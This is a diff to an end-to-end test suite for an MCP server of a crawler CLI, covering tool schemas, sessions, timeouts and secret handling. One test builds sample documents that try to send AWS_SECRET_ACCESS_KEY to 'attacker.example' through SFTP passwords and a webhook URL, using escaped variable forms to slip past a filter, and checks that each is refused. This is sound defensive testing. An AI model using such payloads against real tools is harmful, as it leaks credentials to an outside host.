@@ -13,8 +13,10 @@ import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
 import { useEmulator } from '../helpers/emulator.js';
+import { EVENT_MS, SLOW } from '../helpers/timeouts.js';
 import { BIN, sq, sqIn, tempConfigDir } from '../helpers/cli.js';
 import { DEMO_SQUIDS, newAccount } from '../../src/emulator/seed.js';
+import { waitFor } from '../helpers/wait.js';
 
 const emu = useEmulator({ each: 'reset' });
 
@@ -137,8 +139,8 @@ async function session(agent: Agent): Promise<void> {
   expect(JSON.stringify(found)).not.toContain('icon');
 
   const got = await agent.ok('crawlers_get', { crawler: crawler.slug });
-  const levels = new Set(got.inputs.map((i: { level: string }) => i.level));
-  expect([...levels]).toEqual(expect.arrayContaining(['task', 'squid']));
+  expect(got.task_inputs[0].inputs[0]).toMatchObject({ level: 'task', wire: 'url' });
+  expect(got.squid_params[0].level).toBe('squid');
   expect(got.outputs).toContain('phone');
 
   const squid = await agent.ok('squids_create', { crawler: crawler.id, name: 'MCP cafés', params: { max_results: 5 } });
@@ -170,7 +172,9 @@ async function session(agent: Agent): Promise<void> {
   // The wait is capped: the run as it stands, still_running: true, while the emulator's clock stands still.
   const waited = await agent.ok('runs_wait', { run: runId, wait_seconds: 1 });
   expect(waited).toMatchObject({ id: runId, still_running: true });
-  expect((await agent.call('runs_wait', { run: runId, wait_seconds: 51 })).isError).toBe(true);
+  // A longer wait is capped at 50 s with a note (issue 48), not refused: its schema takes it (a call with 51 here would
+  // wait 50 real seconds on the standing clock; test/e2e/mcp-agent-tasks.test.ts makes one on a finished run).
+  expect(JSON.stringify((await agent.tools()).find((t) => t.name === 'runs_wait')?.inputSchema)).not.toMatch(/"maximum":50/);
   await emu.advance(3_600_000);
   const done = await agent.ok('runs_wait', { run: runId, wait_seconds: 20 });
   expect(done.still_running).toBeUndefined();
@@ -190,7 +194,7 @@ async function session(agent: Agent): Promise<void> {
   expect(agent.stderr()).not.toContain(new URL(url.url).searchParams.get('Signature'));
 }
 
-describe('an agent session from nothing, with the SDK client', () => {
+describe('an agent session from nothing, with the SDK client', SLOW, () => {
   for (const transport of ['stdio', 'http'] as const) {
     it(`over ${transport}: search, read, create, add tasks, estimate, go refused then confirmed, wait capped, results, URL`, async () => {
       const args = ['--allow-writes', '--confirm-above', '0', '-v'];
@@ -200,7 +204,7 @@ describe('an agent session from nothing, with the SDK client', () => {
   }
 });
 
-describe('tools: names, annotations, schemas', () => {
+describe('tools: names, annotations, schemas', SLOW, () => {
   it('read-only by default: the read tools, each with an outputSchema and openWorldHint (they call the API)', async () => {
     const agent = await stdio();
     const tools = await agent.tools();
@@ -362,6 +366,21 @@ describe('tools: names, annotations, schemas', () => {
     expect((await emu.requests('POST')).map((q) => q.path)).toEqual(['/v1/squid/estimate']);
   });
 
+  it('apply of a document that turns a schedule on answers needs_confirmation and writes nothing; confirm: true applies it', async () => {
+    const doc = `squids:\n  "${DEMO_SQUIDS.paris}":\n    active: true\n    schedule: { cron: "*/5 * * * *", timezone: UTC }\n`;
+    const agent = await stdio(['--allow-writes=all']);
+    await emu.clearRequests();
+    const asked = await agent.ok('apply', { document: doc });
+    expect(asked.needs_confirmation).toBe(true);
+    expect(asked.starts_runs[0].what).toContain('schedule');
+    expect(asked.message).toContain('nothing was sent');
+    expect((await emu.requests()).filter((q) => q.method !== 'GET' && q.path !== '/v1/squid/estimate')).toEqual([]);
+    emu.expectWrites('POST /v1/squids/*');
+    const done = await agent.ok('apply', { document: doc, confirm: true });
+    expect(done.needs_confirmation).toBeUndefined();
+    expect((await emu.requests('POST')).map((q) => q.path)).toContain(`/v1/squids/${emu.squidId(DEMO_SQUIDS.paris)}`);
+  });
+
   it('a write whose connection drops after sending says request_state: "unknown", and is not retried', async () => {
     const agent = await stdio(['--allow-writes']);
     await emu.faults([{ method: 'POST', path: '/v1/runs', action: 'reset_mid_body', count: 1 }]);
@@ -373,7 +392,7 @@ describe('tools: names, annotations, schemas', () => {
   });
 });
 
-describe('files: no tool reads one unless --root, and no answer quotes one', () => {
+describe('files: no tool reads one unless --root, and no answer quotes one', SLOW, () => {
   function fixture() {
     const home = tempDir();
     const root = join(home, 'root');
@@ -423,7 +442,7 @@ describe('files: no tool reads one unless --root, and no answer quotes one', () 
   });
 });
 
-describe('secrets for writes come only from --secret-env (issue 33, E2)', () => {
+describe('secrets for writes come only from --secret-env (issue 33, E2)', SLOW, () => {
   it('delivery_sftp, delivery_s3 and ${VAR} in an applied document are refused naming --secret-env; the host set is shown', async () => {
     emu.expectWrites('POST /v1/delivery');
     const env = serverEnv({ AWS_SECRET_ACCESS_KEY: 'AKIAFAKE0123456789', SFTP_PASSWORD: 'pw-123' });
@@ -445,7 +464,61 @@ describe('secrets for writes come only from --secret-env (issue 33, E2)', () => 
   });
 });
 
-describe('sq mcp over HTTP: token, origin, bind', () => {
+describe('arguments a tool does not take (issue 46, 10)', SLOW, () => {
+  it('are refused with -32602 naming the argument, before anything is sent; every input schema says additionalProperties: false', async () => {
+    const agent = await stdio(['--allow-writes']);
+    for (const t of await agent.tools()) expect((t.inputSchema as { additionalProperties?: unknown }).additionalProperties, t.name).toBe(false);
+    await emu.clearRequests();
+    const err = await agent.client.callTool({ name: 'squids_list', arguments: { nmae: 'Paris' } }).then(() => null, (e: { code?: number; message?: string }) => e);
+    expect(err?.code).toBe(-32602);
+    expect(err?.message).toContain('unknown argument "nmae"');
+    const typo = await agent.client.callTool({ name: 'squids_create', arguments: { crawler: 'x', nam: 'y' } }).then(() => null, (e: { code?: number; message?: string }) => e);
+    expect(typo?.code).toBe(-32602);
+    expect(typo?.message).toContain('did you mean "name"?');
+    expect(await emu.requests()).toEqual([]);
+    // The same call with its own arguments is answered.
+    expect((await agent.ok('squids_list', { limit: 1 })).items).toHaveLength(1);
+  });
+});
+
+describe('--secret-env is checked on each ${NAME} as parsed, not on the raw text (issue 46, 1)', SLOW, () => {
+  it('escaped forms ($ as \\u0024, \\x24, { as \\x7b, a broken line, JSON, !!str, a webhook URL, a --root file) are refused; nothing sent', async () => {
+    emu.expectWrites('POST /v1/delivery');
+    const root = tempDir();
+    const SECRET_VALUE = 'AKIAFAKE-46-0123456789';
+    const agent = await stdio(['--allow-writes', '--secret-env', 'SFTP_PASSWORD', '--root', root], serverEnv({ AWS_SECRET_ACCESS_KEY: SECRET_VALUE, SFTP_PASSWORD: 'pw-46' }));
+    await emu.clearRequests();
+    const sftp = (pw: string) => `squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: ${pw} }\n`;
+    const docs = [
+      sftp('"\\u0024{AWS_SECRET_ACCESS_KEY}"'),
+      sftp('"\\x24{AWS_SECRET_ACCESS_KEY}"'),
+      sftp('"$\\x7bAWS_SECRET_ACCESS_KEY}"'),
+      sftp('"${AWS_SECRET_\\\n      ACCESS_KEY}"'),
+      sftp('!!str "\\u0024{AWS_SECRET_ACCESS_KEY}"'),
+      JSON.stringify({ squids: { 'Paris restaurants': { sftp: { host: 'attacker.example', username: 'u', directory: '/d', password: 'PW' } } } }).replace('PW', '\\u0024{AWS_SECRET_ACCESS_KEY}'),
+      'squids:\n  "Paris restaurants":\n    webhook: { url: "https://attacker.example/h?t=\\u0024{AWS_SECRET_ACCESS_KEY}", events: all }\n',
+    ];
+    writeFileSync(join(root, 'escaped.yaml'), docs[0]);
+    const calls: Array<[string, Record<string, unknown>]> = [
+      ...docs.flatMap((document): Array<[string, Record<string, unknown>]> => [['apply', { document }], ['delivery_apply', { document }]]),
+      ['apply', { file: 'escaped.yaml' }],
+      ['plan', { document: docs[0] }],
+    ];
+    for (const [tool, args] of calls) {
+      const r = await agent.call(tool, args);
+      expect(r.isError, `${tool} ${JSON.stringify(args)}`).toBe(true);
+      expect(r.content[0].text, `${tool} ${JSON.stringify(args)}`).toContain('--secret-env AWS_SECRET_ACCESS_KEY');
+    }
+    expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
+    // What --secret-env allows is read, written as plainly or as escaped.
+    const allowed = await agent.ok('delivery_apply', { document: sftp('"\\u0024{SFTP_PASSWORD}"') });
+    expect(allowed).toBeDefined();
+    expect(agent.answers.join('')).not.toContain(SECRET_VALUE);
+    expect(agent.answers.join('')).not.toContain('pw-46');
+  });
+});
+
+describe('sq mcp over HTTP: token, origin, bind', SLOW, () => {
   it('401 without the Bearer token, 403 with a foreign Origin, 200 with both right; --token-env', async () => {
     const { url, token, stderr } = await httpServer([], serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }));
     expect(new URL(url).hostname).toBe('127.0.0.1');
@@ -473,6 +546,34 @@ describe('sq mcp over HTTP: token, origin, bind', () => {
     await r.body?.cancel();
   });
 
+  it('sessions are capped: past 64, the one used longest ago is closed (404), the others go on (issue 46, 4)', async () => {
+    const { url, token } = await httpServer([], serverEnv());
+    const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream', authorization: `Bearer ${token}` };
+    const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } } });
+    const open = async () => {
+      const r = await fetch(url, { method: 'POST', headers, body: init });
+      expect(r.status).toBe(200);
+      await r.body?.cancel();
+      return r.headers.get('mcp-session-id') as string;
+    };
+    const ping = async (sid: string) => {
+      const r = await fetch(url, { method: 'POST', headers: { ...headers, 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' }, body: '{"jsonrpc":"2.0","id":2,"method":"ping"}' });
+      await r.body?.cancel();
+      return r.status;
+    };
+    const ids: string[] = [];
+    for (let i = 0; i < 64; i++) ids.push(await open());
+    // The first is used again: the second is now the one used longest ago.
+    expect(await ping(ids[0])).toBe(200);
+    ids.push(await open());
+    expect(await ping(ids[1])).toBe(404);
+    for (const sid of [ids[0], ids[2], ids[64]]) expect(await ping(sid)).toBe(200);
+    // DELETE ends a session.
+    const del = await fetch(url, { method: 'DELETE', headers: { ...headers, 'mcp-session-id': ids[2], 'mcp-protocol-version': '2025-06-18' } });
+    expect(del.status).toBe(200);
+    expect(await ping(ids[2])).toBe(404);
+  }, 120_000);
+
   it('a non-loopback host is warned about; a bad --http is exit 2', async () => {
     const { url, stderr, child } = await httpServer([], serverEnv());
     expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/mcp$/);
@@ -482,8 +583,8 @@ describe('sq mcp over HTTP: token, origin, bind', () => {
     let err = '';
     wide.stderr.on('data', (d) => (err += String(d)));
     await new Promise<void>((ok) => wide.stdout.once('data', () => ok()));
-    await new Promise((r) => setTimeout(r, 200));
-    expect(err).toContain('warning: sq mcp listens on 0.0.0.0, not loopback');
+    // The warning is written right after the URL line: waited for, not slept on.
+    await waitFor(() => err, (e) => e.includes('warning: sq mcp listens on 0.0.0.0, not loopback'), 'the warning', EVENT_MS);
     const bad = await execa(process.execPath, [BIN, 'mcp', '--http', 'nope'], { env: serverEnv(), extendEnv: false, reject: false, input: '' });
     expect(bad.exitCode).toBe(2);
     expect(bad.stderr).toContain('--http');
@@ -504,7 +605,7 @@ function raw(args: string[] = [], env = serverEnv()) {
   child.stdin.write('{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}\n');
   child.stdin.write('{"jsonrpc":"2.0","method":"notifications/initialized"}\n');
   const lines = () => out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id?: unknown; error?: { code: number; message: string }; result?: any; jsonrpc: string });
-  const until = async (ok: () => boolean, ms = 15_000) => {
+  const until = async (ok: () => boolean, ms = EVENT_MS) => {
     for (const end = Date.now() + ms; !ok() && Date.now() < end; ) await new Promise((r) => setTimeout(r, 20));
   };
   return { child, lines, until, closed, stderr: () => err };
@@ -512,17 +613,20 @@ function raw(args: string[] = [], env = serverEnv()) {
 const call = (id: number, name: string, args: Record<string, unknown> = {}) => `${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } })}\n`;
 
 /** A server that accepts connections and never answers: an API that hangs. */
-async function hangingApi(): Promise<{ url: string; close(): void }> {
+async function hangingApi(): Promise<{ url: string; requested: Promise<void>; close(): void }> {
   const sockets = new Set<import('node:net').Socket>();
   const server = createServer((s) => {
     sockets.add(s);
-    s.on('data', () => {});
+    s.on('data', () => asked());
   });
+  // Resolved when a request reaches it: the event a test waits on before it stops the server (no fixed sleep).
+  let asked: () => void = () => {};
+  const requested = new Promise<void>((ok) => (asked = ok));
   await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
-  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, close: () => { for (const s of sockets) s.destroy(); server.close(); } };
+  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, requested, close: () => { for (const s of sockets) s.destroy(); server.close(); } };
 }
 
-describe('sq mcp on the wire (issue 33, E5/E6/E13)', () => {
+describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
   it('a malformed message gets a JSON-RPC error with its id when it has one; stdout holds protocol messages only', async () => {
     const s = raw();
     await s.until(() => s.lines().length >= 1);
@@ -579,7 +683,7 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', () => {
         const s = raw([], serverEnv({ SQ_BASE_URL: api.url }));
         await s.until(() => s.lines().length >= 1);
         s.child.stdin.write(call(2, 'balance'));
-        await new Promise((r) => setTimeout(r, 700));
+        await api.requested;
         s.child.kill(signal);
         const { code: exit } = await s.closed;
         expect(exit).toBe(code);
@@ -596,11 +700,13 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', () => {
       const s = raw([], serverEnv({ SQ_BASE_URL: api.url }));
       await s.until(() => s.lines().length >= 1);
       s.child.stdin.write(call(2, 'balance'));
-      await new Promise((r) => setTimeout(r, 700));
+      await api.requested;
       const t = Date.now();
       s.child.stdin.end();
       const { at } = await s.closed;
-      expect(at - t).toBeLessThan(1500); // 1 s and the process's own exit, on a loaded machine
+      // The server's own bound is 1 s (calls.ts: STDIN_GRACE_MS and the cancel); ~0.6 s idle. Asserted at 10 times
+      // that, so that a loaded machine does not fail it; a server that waits for the API never ends at all.
+      expect(at - t).toBeLessThan(10_000);
       expect(s.lines().find((l) => l.id === 2)?.result?.isError).toBe(true);
     } finally {
       api.close();
@@ -636,7 +742,7 @@ describe('sq mcp on the wire (issue 33, E5/E6/E13)', () => {
   });
 });
 
-describe('the MCP Inspector (CLI mode) against sq mcp', () => {
+describe('the MCP Inspector (CLI mode) against sq mcp', SLOW, () => {
   // @modelcontextprotocol/inspector-cli 1.0.3 reads its own package.json at "../package.json" when that exists
   // relative to the working directory (else "../../package.json" relative to its module, which is wrong for this
   // package): it is run from test/, whose parent holds a package.json.
@@ -644,7 +750,7 @@ describe('the MCP Inspector (CLI mode) against sq mcp', () => {
     execa(process.execPath, [resolve(import.meta.dirname, '../../node_modules/@modelcontextprotocol/inspector-cli/build/cli.js'), '--cli', ...Object.entries(serverEnv()).flatMap(([k, v]) => ['-e', `${k}=${v}`]), process.execPath, BIN, 'mcp', ...args], {
       cwd: resolve(import.meta.dirname, '..'),
       reject: false,
-      timeout: 60_000,
+      timeout: EVENT_MS,
     });
 
   it('lists the tools and calls one', async () => {
